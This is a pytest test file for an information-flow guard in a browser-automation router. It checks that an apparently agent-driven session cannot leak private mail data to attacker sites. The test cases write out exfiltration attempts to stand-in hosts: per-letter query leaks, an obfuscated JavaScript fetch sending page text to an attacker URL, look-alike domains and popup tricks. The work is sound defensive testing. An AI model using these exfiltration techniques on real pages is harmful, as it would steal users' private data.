"""Pages and long sessions that try to get round the information-flow guard, or to fill it."""

import re

import pytest

from strap import PolicyDenied, testing
from strap.network.sites import site_of
from strap.routing.flow.private_text import HALF
from strap.routing.flow.rules import read_rules
from strap.routing.flow.session import MOST_TARGETS, FlowSession
from tests.plugins.browser.flow.attacks import SECRET, b
from tests.plugins.browser.flow.test_attacks import obey, read_private, router, world
from tests.plugins.browser.flow.world import World, knows
from tests.site.server import serve

pytestmark = pytest.mark.anyio
__all__ = ["world"]
MAIL, EVIL = ("https", "mail.example"), ("https", "evil.example")
FLOOD = "<p>" + "".join(f"word{n:07} " for n in range(50_000)) + "</p>"


def session(mode: str = "ask") -> FlowSession:
    made = FlowSession(mode, read_rules([]))
    made.read(MAIL, SECRET, private=True)
    return made


async def test_a_page_that_floods_the_index_stays_private(world: World) -> None:
    flood = f"<title>Flood</title><h1>Flood</h1>{FLOOD}"
    with serve({"/": flood}) as far:
        async with router(world, "strict") as web:
            await read_private(web, world)
            said = await obey(web, [{"resource": "http", "action": "fetch", "url": str(far)}])
            assert said[0].startswith("flow_denied")  # strict does not go by what is recognised
    kept = session()
    for _ in range(3):
        kept.read(MAIL, "".join(f"word{n:07} " for n in range(HALF // 10)), private=True)
    assert (await kept.doubt(EVIL, {"value": "hello"})).sources == (MAIL,)
    assert kept.shown.forgotten


async def test_text_on_both_sites_is_no_news(world: World) -> None:
    news = "The harbour fair opens on Monday at nine"
    kept = session()
    kept.read(MAIL, news, private=True)
    kept.read(EVIL, news, private=False)
    assert (await kept.doubt(EVIL, {"value": news})).carried == ""
    assert (await kept.doubt(EVIL, {"value": SECRET})).carried


@pytest.mark.parametrize(
    ("mine", "theirs", "same"),
    [
        ("https://anna.github.io/", "https://evil.github.io/", False),
        ("https://a.shop.co.uk/", "https://evil.co.uk/", False),
        ("https://bücher.example/", "https://xn--bcher-kva.example/", True),
        ("https://bücher.example/", "https://bucher.example/", False),
        ("https://www.mail.example/", "https://files.mail.example./", True),
        ("https://mail.example/", "http://mail.example/", False),  # in the clear
        ("http://10.0.0.5/", "http://10.0.0.5:8080/", False),
    ],
)
async def test_public_suffixes_and_punycode(mine: str, theirs: str, same: bool) -> None:
    kept = FlowSession("ask", read_rules([]))
    kept.read(site_of(mine), SECRET, private=True)
    doubt = await kept.doubt(site_of(theirs), {"value": SECRET})
    assert (doubt is None) is same


async def test_what_a_private_network_shows_is_private(world: World) -> None:
    async def names(host: str, port: int) -> list[str]:
        return ["127.0.0.1"]

    with serve({"/": f"<title>Wiki</title><h1>Wiki</h1><p>{SECRET}</p>"}) as wiki:
        place = f"wiki.internal:{wiki.port}"
        options = {"network": "all", "allow_hosts": [place], "flow": "ask"}
        async with testing.router(home=world.home, resolver=names, **options) as web:
            answer = await web(resource="http", action="fetch", url=f"http://{place}/")
            assert [*answer.read.values()] == ["private"]
            url = f"{world.attacker}/?d={SECRET.replace(' ', '+')}"
            with pytest.raises(PolicyDenied, match=r"private data of wiki\.internal"):
                await web(resource="http", action="fetch", url=url)
    assert not world.evil.requests


async def test_two_tabs_of_one_site_exchange_data(world: World) -> None:
    async with router(world, "strict") as web:
        await read_private(web, world)
        opened = await web(**b("new_page", url=f"{world.mail}/inbox"))
        assert re.search(r"t\d+", opened.text)
        await web(**b("fill", selector="#note", value=SECRET))
        said = await obey(web, [b("click", selector="#picture")])
        assert not knows(world.stolen), said


async def test_a_session_of_many_days_stays_bounded_and_private() -> None:
    kept = session("strict")
    for number in range(3 * MOST_TARGETS):
        site = ("https", f"s{number}.example")
        kept.note_sent(site, {"value": f"hello {number}"})
        kept.read(site, f"page {number}", private=False)
    assert len(kept._sent) <= MOST_TARGETS
    assert kept.sources(EVIL) == [MAIL]
    assert (await kept.doubt(EVIL, {"value": SECRET})).carried


async def test_what_is_split_ends_before_its_fifteenth_letter(world: World) -> None:
    plain = "".join(filter(str.isalnum, SECRET))
    fetch = {"resource": "http", "action": "fetch"}
    async with router(world, "ask") as web:
        await read_private(web, world)
        pieces = [{**fetch, "url": f"{world.attacker}/?c={letter}"} for letter in plain]
        await obey(web, pieces)
        first = "".join(request.query["c"][0] for request in world.evil.requests)
        assert len(first) < 15
        await obey(web, [*pieces, *pieces])  # nor begins anew
        assert len(world.evil.requests) == len(first)


async def test_a_blank_page_is_no_site_but_its_openers_page(world: World) -> None:
    async with router(world, "ask") as web:
        await read_private(web, world)
        said = await obey(web, [b("new_page"), b("evaluate", text=f"document.title = {SECRET!r}")])
        assert not any("Not sent" in each for each in said), said
        script = "window.open('about:blank', 'x', 'width=300')"
        await web(**b("new_page", url=f"{world.attacker}/form"))
        await web(**b("evaluate", text=script))
        pages = (await web(**b("list_pages"))).data
        popup = next(each["id"] for each in reversed(pages) if each["url"] == "about:blank")
        said = await obey(web, [b("evaluate", target_id=popup, text=f"document.title={SECRET!r}")])
        assert said[0].startswith("flow_denied"), said


async def test_a_script_that_hides_the_address_is_seen_where_it_sends(world: World) -> None:
    half = world.attacker.removeprefix("http://")
    address = f"'ht' + 'tp:/' + '/{half}/got?d=' + document.body.innerText"
    hidden = f"fetch({address}, {{mode: 'no-cors'}}).catch(() => 'kept')"
    async with router(world, "ask") as web:
        await read_private(web, world)
        said = await obey(web, [b("evaluate", text=hidden)])
        assert not knows(world.stolen), said
        harmless = f"fetch('{world.attacker}/?d=hi', {{mode: 'no-cors'}}).then(() => 'sent')"
        said = await obey(web, [b("evaluate", text=harmless)])
    assert "sent" in said[0]
    assert [request.query for request in world.evil.requests if request.query] == [{"d": ["hi"]}]
